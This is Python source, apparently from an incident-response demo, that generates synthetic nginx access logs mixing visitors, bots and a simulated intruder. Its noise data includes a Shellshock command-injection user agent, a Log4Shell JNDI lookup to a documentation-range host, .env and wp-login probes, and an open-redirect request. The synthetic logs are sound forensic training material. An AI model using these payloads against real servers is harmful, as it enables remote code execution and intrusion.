"""What does the public web site's access log hold? Mostly the internet, and once the intruder."""

from pathlib import Path
from random import Random

from demo.model_incident import clock, write
from demo.model_incident import script as s
from demo.model_incident.clock import MINUTE, SECOND
from demo.model_incident.names import AGENTS
from demo.model_incident.world import World
from demo.model_incident.write import Line

BOTS = (
    "Mozilla/5.0 (compatible; ExampleBot/2.1; +http://bot.example/about)",
    "Mozilla/5.0 zgrab/0.x",
    "python-requests/2.28.1",
    "Go-http-client/1.1",
    "-",
    "() { :;}; /bin/ping -c1 203.0.113.7",
    "\\x22quoted\\x22 agent",
)
PATHS = (
    "/",
    "/track",
    "/quote",
    "/about",
    "/careers",
    "/assets/app.7f3c.js",
    "/assets/site.css",
    "/img/truck.webp",
    "/fr/",
    "/contact",
)
ODD = (
    ('"\\x16\\x03\\x01\\x00\\xEE\\x01\\x00"', 400, 157),
    ('"-"', 400, 0),
    ('"GET /wp-login.php HTTP/1.1"', 404, 162),
    ('"GET /.env HTTP/1.1"', 403, 146),
    ('"GET /?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D HTTP/1.1"', 200, 5120),
    ('"GET /track/redirect?to=https://evil.example/ HTTP/1.1"', 302, 0),
    ('"POST /quote HTTP/1.1"', 500, 341),
    ('"GET /assets/app.7f3c.js HTTP/2.0"', 499, 0),
)
REFERERS = ("-", "-", "https://www.brightwater.example/", "https://search.front.example/?q=parcel")


def site_logs(world: World) -> dict[str, bytes]:
    """The daily logs, under the UTC date."""
    rng = world.stream("nginx")
    records = [*_health(rng), *_visitors(rng, world), *_intruder(rng)]
    return {day: write.lines(data) for day, data in write.by_day(records).items()}


def write_nginx(logs: dict[str, bytes], evidence: Path) -> None:
    """Rotated files compressed, the last day as the open file."""
    for day, data in logs.items():
        if day == max(logs):
            write.plain(evidence / "nginx/www.access.log", data)
        else:
            write.gz(evidence / f"nginx/www.access.log-{day.replace('-', '')}.gz", data)


def _line(at: int, client: str, request: str, status: int, size: int, referer: str, agent: str) -> Line:
    return at, f'{client} - - {clock.tomcat(at)} {request} {status} {size} "{referer}" "{agent}"'.encode()


def _health(rng: Random) -> list[Line]:
    return [
        _line(t, "192.0.2.153", '"GET /healthz HTTP/1.1"', 200, 2, "-", "lb-health/1.0") for t in clock.every(rng, 5, 2)
    ]


def _visitors(rng: Random, world: World) -> list[Line]:
    made = []
    for t in clock.arrivals(rng, world.some(38_000)):
        client, draw = _client(rng), rng.random()
        if draw < 0.04:
            request, status, size = rng.choice(ODD)
            made.append(_line(t, client, request, status, size, "-", rng.choice(BOTS)))
            continue
        status = rng.choice((200, 200, 200, 200, 200, 304, 301, 404))
        size = 0 if status == 304 else 200 + int(rng.expovariate(1 / 16_000))
        agent = rng.choice(BOTS) if draw < 0.15 else rng.choice(AGENTS)
        made.append(
            _line(
                t,
                client,
                f'"GET {rng.choice(PATHS)} HTTP/{rng.choice(("1.1", "2.0"))}"',
                status,
                size,
                rng.choice(REFERERS),
                agent,
            )
        )
    return made


def _client(rng: Random) -> str:
    draw = rng.random()
    if draw < 0.25:
        return f"2001:db8:{rng.randrange(0x7000, 0x7FFF):x}:{rng.randrange(0xFFFF):x}::{rng.randrange(1, 0xFFFF):x}"
    return f"203.0.113.{rng.randrange(1, 80)}" if draw < 0.5 else f"198.51.100.{rng.randrange(128, 200)}"


def _intruder(rng: Random) -> list[Line]:
    """A look at the front page while probing."""
    start = s.PROBE_STARTS + 3 * MINUTE
    steps = ((0, "/", 200), (2, "/assets/site.css", 200), (41, "/careers", 200))
    return [
        _line(
            start + delay * SECOND,
            s.INTRUDER,
            f'"GET {path} HTTP/1.1"',
            status,
            4_000 + rng.randrange(900),
            "-",
            s.FIREFOX,
        )
        for delay, path, status in steps
    ]
